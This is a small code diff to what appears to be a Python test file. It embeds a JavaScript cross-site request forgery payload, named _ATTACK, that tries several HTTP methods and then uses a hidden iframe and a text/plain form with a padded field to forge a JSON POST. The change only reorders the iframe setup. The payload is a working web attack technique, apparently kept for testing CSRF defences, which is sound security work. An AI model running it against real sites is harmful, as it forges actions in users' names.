@@ -29,10 +29,12 @@ _ATTACK = """
   for (const method of ["GET", "PUT", "PATCH", "DELETE"])
     try { await fetch(base + path, {method}) } catch {}
   await new Promise((done) => {
-    const frame = document.body.appendChild(document.createElement("iframe"));
+    const frame = document.createElement("iframe");
+    frame.name = "answer";
+    document.body.appendChild(frame);
+    frame.onload = done;
     const form = document.body.appendChild(document.createElement("form"));
     const field = form.appendChild(document.createElement("input"));
-    frame.name = "answer"; frame.onload = done;
     [field.name, field.value] = [body.slice(0, -1) + ', "pad": "', '"}'];
     [form.action, form.method, form.enctype, form.target] = [base + path, "POST", "text/plain", "answer"];
     form.submit();
